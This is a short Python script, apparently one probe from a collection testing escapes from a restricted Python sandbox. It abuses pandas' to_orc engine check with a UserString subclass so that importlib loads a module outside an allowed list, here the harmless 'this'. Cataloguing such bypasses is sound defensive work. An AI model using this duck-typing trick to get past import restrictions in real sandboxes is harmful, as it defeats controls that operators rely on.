# source: pandas 1.5.3 pandas/io/orc.py to_orc (engine != "pyarrow" then import_optional_dependency(engine)) and importlib.import_module (name.startswith, name[level:]): duck typing
# family: object whose comparison the script controls, passed as a library option name that reaches an import (collections.UserString subclass: compares equal to "pyarrow" with no comparison dunder of the script, __getitem__ hands import_module another name)
# goal: imports the module `this` (prints the Zen of Python), a module outside the allowed list
import collections
import pandas as pd


class Engine(collections.UserString):
    def __getitem__(self, key):
        return "this"


df = pd.DataFrame({"a": [1, 2]})
df.to_orc("out.orc", engine=Engine("pyarrow"))
